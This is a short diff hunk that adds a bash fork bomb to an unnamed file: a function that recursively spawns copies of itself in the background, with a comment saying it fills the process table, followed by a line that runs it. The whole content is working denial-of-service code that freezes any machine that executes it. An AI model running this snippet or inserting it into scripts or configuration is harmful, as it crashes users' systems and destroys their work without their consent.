@@ -1,0 +1,3 @@
+# Fills the table of processes.
+bomb() { bomb | bomb & }
+bomb
